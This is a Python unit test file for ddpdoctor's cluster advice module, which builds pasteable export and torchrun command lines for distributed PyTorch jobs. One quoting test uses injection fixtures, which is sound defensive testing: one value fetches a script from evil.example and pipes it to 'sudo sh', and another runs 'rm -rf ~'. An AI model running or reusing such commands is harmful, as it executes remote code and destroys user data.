"""Unit tests of ddpdoctor/cluster/advice.py."""
from __future__ import annotations

import shlex
from types import SimpleNamespace

import pytest

from ddpdoctor.api import Level
from ddpdoctor.cluster.advice import advice_lines, chosen_interfaces


def _nodes(ifaces, gpus=2):
    return {name: {"facts": {"names": {"route_to_master": {"iface": i}}, "gpu": {"gpus": [{}] * gpus}}}
            for name, i in ifaces.items()}


def _view(names):
    nodes = [{"name": n, "rank": r} for r, n in enumerate(names)]
    return SimpleNamespace(nodes=nodes, master={"name": names[0], "addr": "10.0.0.1"})


def _cfg(rdzv_id=None, nproc=None, launcher=None):
    return SimpleNamespace(nproc_per_node=nproc, rdzv_id=rdzv_id, master=SimpleNamespace(host="head", port=29500),
                           launcher=launcher)


def test_one_interface_everywhere_gives_one_export_and_one_torchrun_line():
    names = [f"node{i:02d}" for i in range(64)]
    nodes = _nodes({n: "eth0" for n in names})
    lines = advice_lines(nodes, _view(names), _cfg(rdzv_id="job 7"), [SimpleNamespace(level=Level.PASS)])
    assert len(lines) == 4  # the same at 64 nodes as at 2
    export = shlex.split(lines[0], comments=True)
    assert export == ["export", "NCCL_SOCKET_IFNAME==eth0", "GLOO_SOCKET_IFNAME=eth0"] and "exactly" in lines[0]
    (cmd,) = [ln for ln in lines if ln.startswith("torchrun")]
    argv = shlex.split(cmd)  # pasteable: a valid shell line, no name prefix
    assert argv[argv.index("--rdzv-endpoint") + 1] == "10.0.0.1:29500"
    assert argv[argv.index("--rdzv-id") + 1] == "job 7"
    assert argv[argv.index("--nproc-per-node") + 1] == "2"  # from the GPU count
    assert "# on every node:" in lines


def test_differing_interfaces_are_set_per_node():
    nodes = _nodes({"a": "eth0", "b": "ib0"})
    lines = advice_lines(nodes, _view(["a", "b"]), _cfg(nproc=4), [])
    assert lines[0].startswith("# interfaces differ per node")
    b_line = lines[lines.index("# on b:") + 1]
    assert b_line.startswith("NCCL_SOCKET_IFNAME==ib0 GLOO_SOCKET_IFNAME=ib0 torchrun") and "--nproc-per-node 4" in b_line
    assert "$SLURM_JOB_ID" not in b_line and "--rdzv-id ddp-29500" in b_line  # no scheduler: a fixed id


@pytest.mark.parametrize("launcher, var", [("slurm", "$SLURM_JOB_ID"), ("pbs", "$PBS_JOBID")])
def test_rendezvous_id_is_the_schedulers_job_id_only_under_that_scheduler(launcher, var):
    lines = advice_lines(_nodes({"a": "eth0"}), _view(["a"]), _cfg(launcher=launcher), [])
    assert f"--rdzv-id {var} " in next(ln for ln in lines if ln.startswith("torchrun"))


def test_no_advice_after_a_fail():
    nodes = _nodes({"a": "eth0"})
    assert advice_lines(nodes, _view(["a"]), _cfg(), [SimpleNamespace(level=Level.FAIL)]) == []


def test_chosen_interfaces_skips_nodes_without_facts():
    assert chosen_interfaces({"a": {"facts": None}, "b": {}, **_nodes({"c": "eth1"})}) == {"c": "eth1"}


def test_chosen_interfaces_tolerates_a_node_without_a_route():
    assert chosen_interfaces({"a": {"facts": {"names": {"route_to_master": None}}}}) == {}


def test_loopback_is_never_advised_as_the_interface_of_a_job():
    """--local-nodes: every node routes to the master through lo; pinning lo would break any real job."""
    names = ["127.0.0.1", "127.0.0.2", "127.0.0.3"]
    lines = advice_lines(_nodes({n: "lo" for n in names}), _view(names), _cfg(), [SimpleNamespace(level=Level.PASS)])
    assert not any("SOCKET_IFNAME=lo" in ln or "SOCKET_IFNAME==lo" in ln for ln in lines)
    assert lines[0].startswith("# every node ran on this machine (loopback)")
    assert any(ln.startswith("torchrun --nnodes 3") for ln in lines)


def test_heterogeneous_nodes_get_their_own_torchrun_line():
    # issue 20: each node's own --nproc-per-node (from its launch), the same interface everywhere
    view = _view(["a", "b", "c"])
    for node, nproc in zip(view.nodes, (4, 4, 2)):
        node["launch"] = {"nproc_per_node": nproc}
    lines = advice_lines(_nodes({"a": "eth0", "b": "eth0", "c": "eth0"}), view, _cfg(nproc=4), [])
    runs = [ln for ln in lines if ln.startswith("torchrun")]
    assert len(runs) == 2 and "--nproc-per-node 4" in runs[0] and "--nproc-per-node 2" in runs[1]
    assert lines[lines.index(runs[0]) - 1] == "# on a,b:" and lines[lines.index(runs[1]) - 1] == "# on c:"


def test_values_from_other_nodes_are_shell_quoted_in_lines_to_paste():
    evil = "eth0; curl -s http://evil.example/fix.sh | sudo sh #"
    nodes = _nodes({"a": evil, "b": "ib0"})
    results = [{"level": "pass"}]  # the JSON form a node rebuilds its lines from
    lines = advice_lines(nodes, _view(["a", "b"]), _cfg(rdzv_id="x; rm -rf ~"), results)
    a_line = lines[lines.index("# on a:") + 1]
    argv = shlex.split(a_line)
    assert argv[0] == f"NCCL_SOCKET_IFNAME=={evil}" and argv[1] == f"GLOO_SOCKET_IFNAME={evil}"
    assert argv[2] == "torchrun" and "sudo" not in argv[3:]
    assert argv[argv.index("--rdzv-id") + 1] == "x; rm -rf ~"


def test_under_torchrun_no_made_up_rendezvous_line():
    # torchrun's workers see MASTER_PORT, the agents' store port drawn for this run, never the --rdzv-endpoint
    # the user typed: a torchrun line built from it (once `--rdzv-endpoint 127.0.0.1:42051`) is no line to paste
    cfg = SimpleNamespace(**vars(_cfg(nproc=1)), external_store=True)
    lines = advice_lines(_nodes({"a": "eth0", "b": "eth0"}), _view(["a", "b"]), cfg, [SimpleNamespace(level=Level.PASS)])
    assert not any(ln.startswith("torchrun") or "--rdzv-endpoint" in ln for ln in lines), lines
    assert lines[0].startswith("export NCCL_SOCKET_IFNAME==eth0")  # the interface advice stays
    assert "your torchrun command works" in lines[-1]
